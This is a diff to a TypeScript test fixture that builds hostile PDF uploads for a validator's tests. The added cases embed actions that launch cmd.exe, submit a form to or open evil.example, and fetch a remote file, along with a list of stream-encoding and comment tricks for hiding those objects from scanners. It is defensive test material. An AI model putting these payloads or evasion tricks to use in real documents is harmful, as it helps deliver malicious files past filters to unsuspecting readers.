@@ -1,7 +1,16 @@
 /** Flyers that nobody should open, made byte by byte: what each is, and why it is refused. */
-import { gzipSync } from 'node:zlib';
+import { deflateSync, gzipSync } from 'node:zlib';
 import { type FlyerRefusal, LARGEST_FLYER } from '../../core/submissions/flyer.ts';
-import { bomb, objectStream, packed, pdfOf, streamOf } from './pdf.ts';
+import {
+  bomb,
+  contentOf,
+  FIRST_INSIDE,
+  objectStream,
+  type PdfOptions,
+  packed,
+  pdfOf,
+  streamOf,
+} from './pdf.ts';
 
 /** The end of an empty ZIP, whose comment is what stands behind it. */
 const zipEnd = (comment: number): Buffer => {
@@ -15,6 +24,72 @@ const withBytesBeforeEnd = (file: Buffer, bytes: Buffer): Buffer => {
   const end = file.lastIndexOf('%%EOF');
   return Buffer.concat([file.subarray(0, end), bytes, Buffer.from('\n%%EOF\n')]);
 };
+const LINK = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 200 0 R>>]';
+const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
+/** What the file does, and the objects in which that is said, which lie in a stream of it. */
+const HIDDEN: readonly (readonly [string, Pick<PdfOptions, 'catalog' | 'page'>, readonly string[]])[] = [
+  ['a program to launch on opening', { catalog: '/OpenAction 200 0 R' }, [LAUNCH]],
+  ['a program to launch on a page', { page: '/AA<</O 200 0 R>>' }, [LAUNCH]],
+  ['a link to a script', { page: LINK }, [SCRIPT]],
+  [
+    'a link that leads to a page first',
+    { page: LINK },
+    ['<</S/URI/URI(https://example.org/)/Next 201 0 R>>', SCRIPT],
+  ],
+  [
+    'a page shown first',
+    { catalog: '/OpenAction 200 0 R' },
+    ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SCRIPT],
+  ],
+  ['a link that sends', { page: LINK }, ['<</S/SubmitForm/F(https://evil.example)>>']],
+];
+/** How a stream of objects can be written so that its names are not found, though some viewer finds its objects. */
+const HIDING: readonly (readonly [string, (objects: readonly string[]) => Buffer])[] = [
+  [
+    'packed twice',
+    (objects) => {
+      const { content, numbers } = contentOf(objects, FIRST_INSIDE);
+      const entries = `/Type/ObjStm${numbers}/Filter[/FlateDecode/FlateDecode]`;
+      return streamOf(deflateSync(deflateSync(content)), entries);
+    },
+  ],
+  ['without a type', (objects) => inHex(objects, '/Filter/ASCIIHexDecode')],
+  ['with a filter by its short name', (objects) => inHex(objects, '/Type/ObjStm/F/AHx')],
+  [
+    'in a stream in a stream',
+    (objects) => objectStream([inHex(objects, '/Filter/ASCIIHexDecode').toString('latin1')], FIRST_INSIDE),
+  ],
+  ...[
+    ['behind a comment that ends the object', '%endobj\n'],
+    ['behind a comment that begins another', '%endobj\r1 0 obj<<%1 0 obj<<\n'],
+    ['behind a comment that begins another on its line', '%1 0 obj <<\n'],
+    ['behind a text that ends the object', '/X(endobj)'],
+    ['behind a text that begins another', '/X(endobj 1 0 obj<<)'],
+    ['behind an object in place of a key', '/X 1 endobj 1 0 obj<</Y 2'],
+    ['behind a number in place of a key', '/X 1 0/Y 2'],
+    ['with another filter', '/Filter/FlateDecode'],
+  ].map(([what = '', entries = '']): (typeof HIDING)[number] => [
+    what,
+    (objects) => inHex(objects, `/Type/ObjStm/Filter/ASCIIHexDecode${entries}`),
+  ]),
+];
+
+function inHex(objects: readonly string[], entries: string): Buffer {
+  const { content, numbers } = contentOf(objects, FIRST_INSIDE);
+  return streamOf(`${Buffer.from(content).toString('hex')}>`, `${numbers}${entries}`);
+}
+
+/** Each of what is hidden in one way, and one of them in each. */
+const hidden = (): [string, FlyerRefusal, () => Buffer][] =>
+  HIDDEN.flatMap(([what, told, objects], first) =>
+    HIDING.filter((_, second) => first === 0 || second === 0).map(
+      ([how, write]): [string, FlyerRefusal, () => Buffer] => [
+        `${what}, ${how}`,
+        told.page?.includes('/AA') ? 'active' : 'damaged',
+        () => pdfOf({ ...told, objects: [write(objects)], inside: objects.length }),
+      ],
+    ),
+  );
 const withName = (object: string): Buffer => pdfOf({ objects: [object] });
 
 export const HOSTILE_FLYERS: readonly (readonly [string, FlyerRefusal, () => Buffer | string])[] = [
@@ -172,4 +247,15 @@ export const HOSTILE_FLYERS: readonly (readonly [string, FlyerRefusal, () => Buf
     'tooHeavy',
     () => pdfOf({ objects: Array.from({ length: 5 }, () => streamOf(bomb(40), '/Filter/FlateDecode')) }),
   ],
+  [
+    'a page on the web that opens with it',
+    'active',
+    () => pdfOf({ catalog: '/OpenAction<</S/URI/URI(https://evil.example)>>' }),
+  ],
+  ['a link to a file elsewhere', 'active', () => withName('<</S/GoToR/F(//evil.example/x.pdf)/D[0/Fit]>>')],
+  ['a link that leads nowhere', 'active', () => pdfOf({ page: LINK.replace('200 0 R', '<</S/Unheard>>') })],
+  ['a comment in an object', 'damaged', () => withName('<</A 1%>>\n/B 2>>')],
+  ['a key that is no name', 'damaged', () => withName('<</A 1 2/B 3>>')],
+  ['an object with no end', 'damaged', () => withName('<</A 1')],
+  ...hidden(),
 ];
